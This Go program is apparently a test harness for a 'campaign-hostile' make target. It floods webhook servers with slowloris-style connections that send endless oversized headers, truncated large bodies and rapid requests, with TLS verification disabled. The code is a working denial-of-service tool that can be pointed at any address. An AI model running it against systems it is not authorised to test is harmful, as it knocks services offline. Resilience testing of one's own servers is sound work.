// The attacker of make campaign-hostile, which runs in a pod: it opens connections to the
// webhooks, and does not finish what it begins.
package main

import (
	"context"
	"crypto/tls"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// attacks are done with each connection, which is kept until the server closes it.
var attacks = map[string]func(io.ReadWriter){
	"headers": func(c io.ReadWriter) {
		send(c, "GET / HTTP/1.1\r\nHost: x\r\n")
		for range 900 {
			if !send(c, "X-A: "+strings.Repeat("a", 1000)+"\r\n") {
				return
			}
		}
	},
	"bodies": func(c io.ReadWriter) {
		send(c, "POST /validate-my-domain-v1-webserver HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 110000\r\n\r\n")
		send(c, `{"a": "`+strings.Repeat("a", 105_000))
	},
	"requests": func(c io.ReadWriter) {
		send(c, "GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
	},
}

func send(w io.Writer, text string) bool {
	_, err := io.WriteString(w, text)
	return err == nil
}

func main() {
	name := flag.String("attack", "", "")
	count := flag.Int("connections", 0, "at a time, to each address")
	pause := flag.Duration("pause", time.Second, "before a connection is replaced")
	lasts := flag.Duration("for", 0, "")
	flag.Parse()
	attack, ok := attacks[*name]
	if !ok {
		fmt.Fprintf(os.Stderr, "-attack=%s is unknown\n", *name)
		os.Exit(2)
	}
	ctx, cancel := context.WithTimeout(context.Background(), *lasts)
	defer cancel()
	var opened atomic.Int64
	var wg sync.WaitGroup
	for _, address := range flag.Args() {
		for range *count {
			wg.Go(func() {
				for ctx.Err() == nil {
					if c, err := open(ctx, address); err == nil {
						opened.Add(1)
						attack(c)
						_, _ = io.Copy(io.Discard, c)
						_ = c.Close()
					}
					time.Sleep(*pause)
				}
			})
		}
	}
	wg.Wait()
	fmt.Println(opened.Load())
}

// open opens a connection that ends with ctx.
func open(ctx context.Context, address string) (net.Conn, error) {
	d := tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true}} //nolint:gosec // an attacker does not ask
	c, err := d.DialContext(ctx, "tcp", address)
	if err != nil {
		return nil, err //nolint:wrapcheck // it is only counted
	}
	end, _ := ctx.Deadline()
	return c, c.SetDeadline(end)
}
